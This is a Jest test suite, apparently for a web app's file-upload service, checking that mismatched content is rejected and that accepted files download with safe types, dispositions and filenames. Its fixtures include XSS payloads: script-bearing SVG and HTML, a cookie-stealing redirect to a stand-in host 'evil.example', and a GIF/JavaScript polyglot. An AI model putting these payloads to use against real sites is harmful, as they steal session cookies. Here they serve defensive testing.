import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { CreatePostDocument } from '../../src/generated/client/graphql.ts';
import { pdfBytes, pngBytes, textBytes } from '../support/sample-files.ts';
import { startTestApi, type TestApi } from '../support/test-api.ts';
import { confirm, issueTicket, postToStorage } from '../support/upload-client.ts';

let api: TestApi;
let token: string;
let postId: string;

beforeAll(async () => {
  api = await startTestApi();
  token = await api.token('alice');
  postId = (await api.graphql(CreatePostDocument, { title: 'files' }, token)).data!.createPost.id;
});
afterAll(() => api.stop());

/** Uploads `bytes` as an attachment declared as `contentType` and confirms it. */
async function uploadAs(contentType: string, filename: string, bytes: Uint8Array<ArrayBuffer>) {
  const ticket = await issueTicket(api, token, {
    purpose: 'POST_ATTACHMENT',
    postId,
    filename,
    contentType,
    byteSize: bytes.length,
  });
  await postToStorage(ticket, bytes);
  return { ticket, result: await confirm(api, token, ticket.id) };
}

const SVG = textBytes(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>',
);
const HTML = textBytes('<!DOCTYPE html><html><script>fetch("/steal?c="+document.cookie)</script></html>');
const JS = textBytes('(function(){document.location="https://evil.example/?"+document.cookie})();');

describe('content safety', () => {
  it.each([
    ['HTML', 'image/png', HTML],
    ['HTML', 'image/gif', HTML],
    ['SVG with a script', 'image/png', SVG],
    ['SVG with a script', 'image/webp', SVG],
    ['JavaScript', 'image/jpeg', JS],
    ['JavaScript', 'application/pdf', JS],
    ['HTML', 'application/pdf', HTML],
    ['a PNG', 'image/jpeg', pngBytes(100)],
  ])('%s declared as %s → CONTENT_MISMATCH, object deleted', async (_what, contentType, bytes) => {
    const { ticket, result } = await uploadAs(contentType, 'x.bin', bytes);
    expect(result).toMatchObject({ reason: 'CONTENT_MISMATCH' });
    expect(await api.storage.head(ticket.key)).toBeNull();
  });

  // Polyglots pass the signature check: what keeps them harmless is how they are served.
  it.each([
    [
      'a GIF/JavaScript polyglot',
      'image/gif',
      textBytes('GIF89a/*\x00\x00*/=1;alert(document.domain)//'),
      'image/gif',
      'inline',
    ],
    [
      'a PDF whose body is HTML',
      'application/pdf',
      textBytes('%PDF-1.4\n<html><script>alert(1)</script></html>'),
      'application/pdf',
      'attachment',
    ],
    ['HTML declared as plain text', 'text/plain', HTML, 'text/plain; charset=utf-8', 'attachment'],
  ])('%s is accepted but served as %s, %s', async (_what, contentType, bytes, servedType, disposition) => {
    const { result } = await uploadAs(contentType, 'file "name".dat', bytes);
    if (!('file' in result)) throw new Error(`rejected: ${JSON.stringify(result)}`);
    const download = await fetch(result.file.url);
    expect(download.headers.get('content-type')).toBe(servedType);
    // The name gets the verified type's extension: what the downloads folder opens it with.
    const ext = EXTENSION[contentType];
    expect(download.headers.get('content-disposition')).toBe(
      `${disposition}; filename="file _name_.dat.${ext}"; filename*=UTF-8''file%20%22name%22.dat.${ext}`,
    );
    expect(new Uint8Array(await download.arrayBuffer())).toEqual(bytes);
  });

  it.each([
    ['image/png', pngBytes(64), 'image/png', 'inline'],
    ['image/jpeg', new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]), 'image/jpeg', 'inline'],
    ['image/gif', textBytes('GIF87a......'), 'image/gif', 'inline'],
    ['image/webp', textBytes('RIFF\x10\x00\x00\x00WEBPVP8 '), 'image/webp', 'inline'],
    ['application/pdf', pdfBytes(64), 'application/pdf', 'attachment'],
    ['text/plain', textBytes('notes: ünïcödé\n'), 'text/plain; charset=utf-8', 'attachment'],
  ])(
    'every accepted type downloads with a fixed type and disposition: %s',
    async (contentType, bytes, servedType, disposition) => {
      const { result } = await uploadAs(contentType, 'Résumé.bin', bytes);
      if (!('file' in result)) throw new Error(`rejected: ${JSON.stringify(result)}`);
      const download = await fetch(result.file.url);
      expect(download.headers.get('content-type')).toBe(servedType);
      const ext = EXTENSION[contentType];
      expect(download.headers.get('content-disposition')).toBe(
        `${disposition}; filename="R_sum_.bin.${ext}"; filename*=UTF-8''R%C3%A9sum%C3%A9.bin.${ext}`,
      );
    },
  );

  it.each([
    ['evil.html', 'text/plain', textBytes('<html><script>alert(1)</script>'), 'evil.html.txt'],
    ['evil.svg', 'image/png', pngBytes(64), 'evil.svg.png'],
    ['notes.TXT', 'text/plain', textBytes('plain notes'), 'notes.TXT'],
    ['photo.JPEG', 'image/jpeg', new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]), 'photo.JPEG'],
    ['no-extension', 'application/pdf', pdfBytes(64), 'no-extension.pdf'],
    ['.pdf', 'application/pdf', pdfBytes(64), '.pdf.pdf'],
  ])('a file named %s verified as %s downloads as %s', async (filename, contentType, bytes, downloaded) => {
    const { result } = await uploadAs(contentType, filename, bytes);
    if (!('file' in result)) throw new Error(`rejected: ${JSON.stringify(result)}`);
    const disposition = (await fetch(result.file.url)).headers.get('content-disposition');
    expect(disposition).toContain(`filename="${downloaded}"`);
    expect(disposition).toContain(`filename*=UTF-8''${encodeURIComponent(downloaded)}`);
  });
});

const EXTENSION: Record<string, string> = {
  'image/png': 'png',
  'image/jpeg': 'jpg',
  'image/gif': 'gif',
  'image/webp': 'webp',
  'application/pdf': 'pdf',
  'text/plain': 'txt',
};
